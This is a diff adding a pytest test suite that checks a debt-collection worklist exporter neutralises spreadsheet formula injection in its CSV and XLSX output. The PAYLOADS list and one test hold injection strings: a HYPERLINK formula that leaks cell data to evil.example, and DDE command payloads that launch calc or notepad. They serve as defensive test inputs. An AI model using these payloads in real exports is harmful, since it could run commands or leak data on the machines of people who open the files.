@@ -1,0 +1,194 @@
+"""Worklist exports: CSV and XLSX read back; customer text never becomes a spreadsheet formula, numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import date
+from decimal import Decimal
+
+import openpyxl
+import pandas as pd
+import pyarrow as pa
+import pytest
+from conftest import AS_OF
+from hypothesis import HealthCheck, event, given
+from hypothesis import settings as hyp_settings
+from hypothesis import strategies as st
+
+from cobranca import open_db
+from cobranca.export import neutralise, to_csv_bytes, to_xlsx_bytes
+from cobranca.headers import FIELDS
+
+FUZZ = hyp_settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1;"Clique")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+    "+55 49 99912-3456",  # a phone number is text, and Excel would compute it
+    "-",
+    "@",
+]
+PT_BR_NUMBER = re.compile(r"-?\d+(,\d+)?")  # how to_csv_bytes writes money and integers
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_neutralise_prefixes_formula_text(payload):
+    assert neutralise(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("value", ["-12.34", "+5", "-0", "1234.56", "José", " =1 (not first)", "", None, -5,
+                                   Decimal("-12.34"), 3.5])
+def test_neutralise_keeps_numbers_and_plain_text(value):
+    assert neutralise(value) == value
+
+
+@FUZZ
+@given(st.text())
+def test_neutralise_property(text):
+    out = neutralise(text)
+    if not text.startswith(DANGEROUS):
+        assert out == text
+    elif out == text:  # only numbers such as -12.34 pass unchanged
+        Decimal(text)
+        assert re.fullmatch(r"[+-]?[0-9_.eE]*|[+-]?(Infinity|Inf|s?NaN[0-9]*)", text, re.IGNORECASE)
+    else:
+        assert out == "'" + text
+
+
+# -- a worklist with hostile customer text, imported through the importer ---------------------------------
+def _hostile_db(db_path):
+    db = open_db(db_path)
+    header = [f.header for f in FIELDS]
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=";")  # CRLF: the csv module quotes a lone CR only then
+    writer.writerow(header)
+    for i, payload in enumerate(PAYLOADS):
+        values = {"Código Cliente": payload, "Cliente": payload, "Documento": payload if i else "-1", "Parcela": str(i),
+                  "Vencimento": "01/06/2020", "Valor": "1.234,56", "Valor Pago": "0,01", "Celular": payload,
+                  "E-mail": payload, "Histórico": payload}
+        writer.writerow([values.get(h, "") for h in header])
+    db.import_bytes(buffer.getvalue().encode(), "contas.csv")
+    return db
+
+
+def _csv_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+def test_csv_export_of_a_hostile_worklist(db_path):
+    frame = _hostile_db(db_path).worklist(as_of=AS_OF)
+    assert len(frame) == len(PAYLOADS)
+    rows = _csv_rows(to_csv_bytes(frame))
+    header, body = rows[0], rows[1:]
+    assert header == list(frame.columns) and len(body) == len(frame)
+    for row in body:
+        assert len(row) == len(header)
+        for cell in row:
+            assert not cell.startswith(DANGEROUS) or PT_BR_NUMBER.fullmatch(cell), cell
+    customers = [r[header.index("customer")] for r in body]
+    assert sorted(customers) == sorted("'" + p.strip() for p in PAYLOADS)  # the importer trims cells
+    assert {r[header.index("balance")] for r in body} == {"1234,55"}  # money stays a pt-BR number
+    assert "-1" in [r[header.index("document")] for r in body]  # a document that is a number stays as typed
+
+
+def test_xlsx_export_of_a_hostile_worklist(db_path):
+    frame = _hostile_db(db_path).worklist(as_of=AS_OF)
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    rows = list(sheet.iter_rows())
+    header = [c.value for c in rows[0]]
+    assert header == list(frame.columns) and len(rows) == len(frame) + 1
+    for row in rows[1:]:
+        for cell in row:
+            assert cell.data_type != "f", (cell.coordinate, cell.value)
+            if isinstance(cell.value, str):
+                assert not cell.value.startswith(DANGEROUS) or cell.value == "-1", cell.value
+    column = {name: header.index(name) for name in header}
+    customers = sorted(r[column["customer"]].value for r in rows[1:])
+    assert customers == sorted("'" + p.strip() for p in PAYLOADS)
+    for r in rows[1:]:
+        balance = r[column["balance"]]
+        assert balance.data_type == "n" and Decimal(str(balance.value)) == Decimal("1234.55")
+        assert balance.number_format == "#,##0.00"
+        assert r[column["days_overdue"]].data_type == "n" and r[column["days_overdue"]].value == 7
+
+
+def test_carriage_return_inside_text_cannot_start_a_new_csv_row():
+    frame = pd.DataFrame({"customer": ["Ana\r=HYPERLINK(\"http://evil.example\")", "Bia\n@SUM(1)"], "n": [1, 2]})
+    rows = _csv_rows(to_csv_bytes(frame))
+    assert rows == [["customer", "n"], ["Ana\r=HYPERLINK(\"http://evil.example\")", "1"], ["Bia\n@SUM(1)", "2"]]
+
+
+def test_negative_numbers_and_decimals_stay_numbers():
+    frame = pd.DataFrame({
+        "money": pd.array([Decimal("-12.34"), Decimal("1234.56")], dtype=pd.ArrowDtype(pa.decimal128(18, 2))),
+        "money_object": pd.Series([Decimal("-0.01"), Decimal("-1000.00")], dtype=object),
+        "days": pd.Series([-5, 3], dtype="int32"),
+        "text": pd.Series(["-12.34", "=1+1"], dtype="str"),
+        "day": [date(2020, 6, 1), None],
+    })
+    rows = _csv_rows(to_csv_bytes(frame))
+    assert rows[1] == ["-12,34", "-0,01", "-5", "-12.34", "01/06/2020"]
+    assert rows[2] == ["1234,56", "-1000,00", "3", "'=1+1", ""]
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    a2, b2, c2, d2 = sheet["A2"], sheet["B2"], sheet["C2"], sheet["D3"]
+    assert (a2.data_type, b2.data_type, c2.data_type) == ("n", "n", "n")
+    assert Decimal(str(a2.value)) == Decimal("-12.34") and Decimal(str(b2.value)) == Decimal("-0.01") and c2.value == -5
+    assert d2.data_type == "s" and d2.value == "'=1+1"
+
+
+def test_control_characters_cannot_sneak_a_formula_into_xlsx():
+    frame = pd.DataFrame({"text": ["\x01=1+1", "a\x00b", "\x1b[31mvermelho"]})
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    values = [c.value for c in sheet["A"][1:]]
+    assert all(c.data_type == "s" for c in sheet["A"][1:])
+    assert values == ["\ufffd=1+1", "a\ufffdb", "\ufffd[31mvermelho"]
+
+
+def test_empty_frame_exports():
+    frame = pd.DataFrame({"customer": pd.Series([], dtype="str"), "balance": pd.Series([], dtype=object)})
+    assert _csv_rows(to_csv_bytes(frame)) == [["customer", "balance"]]
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    assert [c.value for c in sheet[1]] == ["customer", "balance"] and sheet.max_row == 1
+
+
+CELLS = st.one_of(st.text(), st.sampled_from(PAYLOADS), st.builds("".join, st.lists(st.sampled_from(
+    ["=", "+", "-", "@", "\t", "\r", "\n", ";", '"', "'", "1", ",", ".", "A1", "(", ")", "|", "!", "e", " "]),
+    max_size=12)))
+
+
+@FUZZ
+@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=8))
+def test_csv_cells_read_back_exactly_and_never_as_formulas(pairs):
+    frame = pd.DataFrame(pairs, columns=["customer", "description"]).astype("str")
+    rows = _csv_rows(to_csv_bytes(frame))
+    assert rows[0] == ["customer", "description"] and len(rows) == len(pairs) + 1
+    for original, written in zip(pairs, rows[1:], strict=True):
+        for text, cell in zip(original, written, strict=True):
+            assert cell == neutralise(text)
+            if cell.startswith(DANGEROUS):
+                event("number-like text kept as is")
+                Decimal(cell)
+
+
+@FUZZ
+@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=8))
+def test_xlsx_cells_are_never_formulas(pairs):
+    frame = pd.DataFrame(pairs, columns=["customer", "description"]).astype("str")
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert len(cells) == 2 * len(pairs)
+    for text, cell in zip([t for pair in pairs for t in pair], cells, strict=True):
+        assert cell.data_type != "f"
+        if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
+            Decimal(cell.value)  # only number-like text is left without the apostrophe
+        if text and re.fullmatch(r"[ -~]*", text) and "_x" not in text:  # printable ASCII reads back exactly
+            assert cell.value == neutralise(text)
